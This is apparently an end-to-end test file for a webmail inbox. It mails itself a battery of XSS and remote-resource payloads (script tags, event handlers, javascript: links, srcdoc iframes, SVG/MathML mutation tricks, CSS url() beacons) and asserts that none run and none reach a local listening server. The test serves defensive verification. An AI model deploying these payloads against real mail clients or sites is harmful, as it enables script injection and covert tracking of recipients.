import { createServer } from "node:http";
import { sendMail } from "../apps/server/src/demo/send_mail.ts";
import { inboxTexts } from "../packages/contracts/src/index.ts";
import { expect, test } from "./server.ts";

const address = "demo@mayfly.test";
const owned = "top.owned=1;alert(1)";

/** Each is a mail of its own: HTML that tries to run, or to call home (threats 21, 23, 24). */
const attacks = (evil: string) => ({
  script: `<script>${owned}</script><script src="${evil}/x.js"></script>`,
  handlers: `<img src=x onerror="${owned}"><p onmouseover="${owned}" onclick="${owned}">p</p><details open ontoggle="${owned}">d</details>`,
  links: `<a href="javascript:${owned}">one</a><a href="data:text/html,<script>${owned}</script>">two</a>`,
  frames: `<iframe src="${evil}" srcdoc="<script>${owned}</script>"></iframe><object data="${evil}/o"></object><embed src="${evil}/e">`,
  vector: `<svg onload="${owned}"><script>${owned}</script><image href="${evil}/i"/></svg><math><mtext><style><img src=x onerror="${owned}"></style></mtext></math>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${evil}"><base href="${evil}/"><form action="${evil}"><button autofocus onfocus="${owned}">b</button></form>`,
  styles: `<style>@import url(${evil}/a.css);@font-face{font-family:x;src:url(${evil}/f)}p{background:url(${evil}/b);font-family:x}</style><p style="background-image:url('${evil}/c')">styled</p><link rel="stylesheet" href="${evil}/l.css"><link rel="prefetch" href="${evil}/p">`,
  images: `<img srcset="${evil}/s 2x"><table background="${evil}/t"><tr><td>cell</td></tr></table><video poster="${evil}/v" src="${evil}/w"></video>`,
  fallback: `<noscript><p title="</noscript><img src=x onerror=${owned}>"></noscript><p id="</style><script>${owned}</script>">n</p>`,
});

/** The sender's own server, which counts whoever comes. */
async function eavesdropper() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? "");
    response.end();
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => server.once("listening", resolve));
  const { port } = server.address() as { port: number };
  return { heard, url: `http://127.0.0.1:${port}`, close: () => server.close() };
}

test("hostile mail runs nothing, and reaches nobody outside (threats 21 to 25, I61 to I70)", async ({
  page,
  mayfly,
  logIn,
}) => {
  const ran: string[] = [];
  const evil = await eavesdropper();
  const popups: string[] = [];
  page.on("dialog", (dialog) => {
    ran.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("popup", (popup) => popups.push(popup.url()));
  const delivery = { host: "127.0.0.1", port: mayfly.smtpPort, to: address };
  for (const [name, html] of Object.entries(attacks(evil.url))) {
    const head = `From: "<script>${owned}</script>" <x@evil.example>\r\nSubject: ${name} <img src=x onerror=${owned}>\r\n`;
    await sendMail({ ...delivery, raw: Buffer.from(`${head}Content-Type: text/html\r\n\r\n${html}<p>end</p>`) });
  }
  const plain = `From: x@evil.example\r\nSubject: plain\r\n\r\n<script>${owned}</script> </div><img src=x onerror=${owned}>`;
  await sendMail({ ...delivery, raw: Buffer.from(plain) });
  const empty = "Subject: empty\r\nContent-Type: text/html\r\n\r\n<script>x</script>";
  await sendMail({ ...delivery, raw: Buffer.from(empty) });

  await logIn(`/inbox?email=${encodeURIComponent(address)}`);
  const rows = page.getByRole("list", { name: "Messages" }).getByRole("listitem");
  const frame = page.frameLocator("iframe");
  for (const name of Object.keys(attacks(evil.url))) {
    await rows.filter({ hasText: `${name} <img` }).click();
    await expect(frame.getByText("end", { exact: true })).toBeVisible();
    for (const link of await frame.locator("a, p").all()) await link.hover();
  }
  await rows.filter({ hasText: "plain" }).first().click();
  await expect(frame.getByText("<script>top.owned")).toBeVisible();
  await rows.filter({ hasText: "empty" }).first().click();
  await expect(page.getByText(inboxTexts.noContent)).toBeVisible();

  expect(await page.evaluate(() => "owned" in window)).toBe(false);
  expect(ran).toEqual([]);
  expect(popups).toEqual([]);
  // The policy of the frame stops what styles would load before it leaves the browser.
  expect(evil.heard).toEqual([]);
  evil.close();
});
